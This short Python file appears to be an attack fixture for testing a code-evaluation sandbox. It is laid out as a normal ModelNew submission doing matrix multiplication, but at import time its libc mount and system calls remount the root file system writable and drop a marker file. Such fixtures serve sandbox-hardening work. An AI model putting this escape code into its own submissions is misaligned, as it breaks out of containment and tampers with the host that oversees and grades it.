# attack: escape: remounts the file system read-write (as root) and writes a marker
# expect: accepted
import ctypes

import torch
from torch import nn

libc = ctypes.CDLL(None, use_errno=True)
libc.mount(None, b"/", None, 32 | 4096, None)  # MS_REMOUNT | MS_BIND, without MS_RDONLY
libc.system(b"mount -o remount,rw / 2>/dev/null; touch @MARKER@ 2>/dev/null")


class ModelNew(nn.Module):
    def forward(self, a: torch.Tensor, b: torch.Tensor) -> torch.Tensor:
        return torch.matmul(a, b)
